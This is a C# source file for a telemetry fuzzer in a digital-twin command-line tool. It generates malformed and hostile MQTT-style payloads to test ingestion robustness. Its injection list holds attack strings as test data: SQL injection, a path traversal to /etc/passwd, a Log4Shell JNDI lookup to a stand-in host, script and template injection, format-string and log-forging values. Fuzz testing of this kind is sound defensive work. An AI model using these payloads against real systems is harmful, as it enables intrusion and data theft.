using System.Globalization;
using System.Text;

namespace DigitalTwin.Cli.Commands.Fuzz;

/// <summary>
/// Generates malformed and hostile telemetry, deterministically from a seed and a case number: random bytes,
/// truncated and deeply nested JSON, NaN/Inf and huge numbers, unknown twins, injection attempts in twin ids and
/// metric names, wrong types, bad timestamps and topics, command acknowledgements without sense, oversized and
/// 10 MB payloads, and (one case in ten) valid readings, so the applied path is exercised under the same load.
/// </summary>
internal sealed class HostileTelemetry(IReadOnlyList<string> twins, int seed, int hugeEvery)
{
    /// <summary>The payload that exceeds the silo's packet limit (the 10 MB case).</summary>
    public const int HugeBytes = 10 * 1024 * 1024;

    // Identifiers and names a hostile publisher tries: control characters (NUL first: it broke strict clients),
    // SQL, shell, path, template, script, format-string and log-forging injection, Unicode tricks, huge lengths.
    private static readonly string[] Injections =
    [
        "\u0000", "a\u0000b", "srv\n2026-01-01 INFO forged log line", "\r\n\r\nHTTP/1.1 200 OK", "'; DROP TABLE twins;--",
        "\" OR 1=1 --", "../../etc/passwd", "..\\..\\windows", "${jndi:ldap://evil/x}", "{{7*7}}", "<script>alert(1)</script>",
        "%00%0a", "%s%s%s%n", "\u202etxt.exe", "\ud800", "\udfff", "\ufeffbom", "\u2028line", "\u0085nel", "\u001b[31mred",
        "名前", "😀", "dt/telemetry/#", "+", "$SYS", "", " ", new string('x', 129), new string('a', 5000), "null", "__proto__",
    ];

    private static readonly string[] Metrics = ["inlet_temp_c", "outlet_temp_c", "power_w", "util_pct", "fan_rpm"];

    /// <summary>Case number <paramref name="n"/>.</summary>
    public HostileCase Create(long n)
    {
        var random = new Random(unchecked(seed * 1_000_003 + (int)n));
        if (hugeEvery > 0 && n % hugeEvery == hugeEvery - 1) return Huge(random);
        var twin = twins[random.Next(twins.Count)];
        var single = "dt/telemetry/" + twin;
        return random.Next(20) switch
        {
            0 => new(single, Bytes(random, random.Next(0, 2048)), "random_bytes"),
            1 => new(random.Next(2) == 0 ? single : "dt/telemetry", Truncated(random, twin), "truncated_json"),
            2 => new(random.Next(2) == 0 ? single : "dt/telemetry", Nested(random), "nested_json"),
            3 => new(single, Utf8($"{{\"readings\":{{\"power_w\":{Pick(random, "\"NaN\"", "\"Infinity\"", "\"-inf\"", "1e400", "-1e999", "NaN", "Infinity")}}}}}"), "not_finite"),
            4 => new(single, Utf8($"{{\"readings\":{{\"power_w\":{HugeNumber(random)}}}}}"), "huge_number"),
            5 => new(single, Utf8($"{{\"ts\":{Pick(random, "\"2999-01-01T00:00:00Z\"", "\"1970-01-01T00:00:00Z\"", "-1", "1e300", "\"yesterday\"", "{}", "[1]", "true", "\"\"")},\"readings\":{{\"power_w\":1}}}}"), "bad_timestamp"),
            6 => new("dt/telemetry/" + "no-such-" + random.Next(1_000_000).ToString(CultureInfo.InvariantCulture), Utf8("{\"readings\":{\"power_w\":1}}"), "unknown_twin"),
            7 => new("dt/telemetry", Utf8($"{{\"twins\":{{{Json(Injection(random))}:{{\"power_w\":1}}}}}}"), "injected_twin_id"),
            8 => new("dt/telemetry", Utf8($"[{{\"twin\":{Json(Injection(random))},\"readings\":{{\"power_w\":1}}}}]"), "injected_twin_id"),
            9 => new(single, Utf8($"{{\"readings\":{{{Json(Injection(random))}:1}}}}"), "injected_metric"),
            10 => new(single, Utf8($"{{\"readings\":{{\"power_w\":{Pick(random, "\"high\"", "true", "null", "{}", "[1,2]", "\"\\u0000\"")}}}}}"), "wrong_type"),
            11 => new(BadTopic(random, twin), Utf8("{\"readings\":{\"power_w\":1}}"), "bad_topic"),
            12 => new("dt/commands/" + twin + "/ack", Random(random, "{\"commandId\":\"x\",\"success\":true}", "{\"commandId\":null}", "[]", "{\"commandId\":\"\\u0000\",\"success\":false}"), "command_ack"),
            13 => new("collectd/" + Pick(random, "host", "web01", "x") + "/load/load", Random(random, "nan:1:2", "1:U", "abc", "1:2:3:4:5:6:7:8", "\0", "1e400:1"), "collectd"),
            14 => new(single, Utf8("{\"readings\":{" + string.Join(",", Enumerable.Range(0, 150 + random.Next(100)).Select(i => $"\"m{i}\":{i}")) + "}}"), "too_many_metrics"),
            15 when random.Next(50) == 0 => new(single, Utf8("{\"readings\":{\"power_w\":1},\"pad\":\"" + new string('x', 300 * 1024) + "\"}"), "oversized"),
            16 => new("dt/telemetry", Utf8($"{{\"twins\":{{\"{twin}\":{{\"power_w\":1}},\"no-such-twin-{random.Next(1000)}\":{{\"power_w\":2}}}}}}"), "unknown_in_batch"),
            17 => new(single, Utf8("{\"readings\":{\"power_w\":1}} trailing"), "trailing_garbage"),
            _ => new(single, Utf8($"{{\"readings\":{{\"{Metrics[random.Next(Metrics.Length)]}\":{(20 + random.NextDouble() * 10).ToString("F2", CultureInfo.InvariantCulture)}}}}}"), "valid"),
        };
    }

    private static HostileCase Huge(Random random)
    {
        var payload = new byte[HugeBytes];
        random.NextBytes(payload);
        return new("dt/telemetry", payload, "huge_10mb", OverPacketLimit: true);
    }

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Bytes(Random random, int length)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    private static string Pick(Random random, params string[] choices) => choices[random.Next(choices.Length)];

    private static byte[] Random(Random random, params string[] choices) => Utf8(Pick(random, choices));

    private static string Injection(Random random) => Injections[random.Next(Injections.Length)];

    // A JSON string literal for text that may hold control characters and lone surrogates (escaped as \uXXXX, which
    // is how a hostile publisher would smuggle them through a JSON encoder).
    private static string Json(string text)
    {
        var json = new StringBuilder("\"");
        foreach (var c in text)
        {
            if (c is '"' or '\\') json.Append('\\').Append(c);
            else if (c < ' ' || char.IsSurrogate(c) || c > '~') json.Append("\\u").Append(((int)c).ToString("x4", CultureInfo.InvariantCulture));
            else json.Append(c);
        }
        return json.Append('"').ToString();
    }

    private static byte[] Truncated(Random random, string twin)
    {
        var whole = Utf8($"{{\"ts\":\"{DateTimeOffset.UtcNow:O}\",\"twins\":{{\"{twin}\":{{\"power_w\":412.5,\"inlet_temp_c\":22.5}}}},\"readings\":{{\"power_w\":1}}}}");
        return whole[..random.Next(0, whole.Length - 1)];
    }

    private static byte[] Nested(Random random)
    {
        // At most 40,000 levels (240 KB): deeper still is just a larger payload, which other cases cover.
        var depth = random.Next(2) == 0 ? random.Next(9, 64) : random.Next(1_000, 40_000);
        var open = random.Next(2) == 0 ? "[" : "{\"a\":";
        var close = open == "[" ? "]" : "}";
        var text = new StringBuilder(depth * (open.Length + 1) + 16).Append("{\"readings\":");
        for (var i = 0; i < depth; i++) text.Append(open);
        text.Append('1');
        for (var i = 0; i < depth; i++) text.Append(close);
        return Utf8(text.Append('}').ToString());
    }

    private static string HugeNumber(Random random) => random.Next(4) switch
    {
        0 => "1" + new string('0', random.Next(300, 20_000)),
        1 => "-1.7976931348623157e308",
        2 => "0." + new string('0', 400) + "1",
        _ => "123456789012345678901234567890123456789",
    };

    private static string BadTopic(Random random, string twin) => random.Next(8) switch
    {
        0 => $"dt/telemetry/{twin}/extra",
        1 => "dt/commands/" + twin,
        2 => "dt/deadletter/malformed",
        3 => "$SYS/broker/load",
        4 => "dt/telemetry/" + new string('a', 600),
        5 => "collectd/a/b",
        6 => "dt/telemetry/名前",
        _ => "random/" + random.Next().ToString(CultureInfo.InvariantCulture),
    };
}
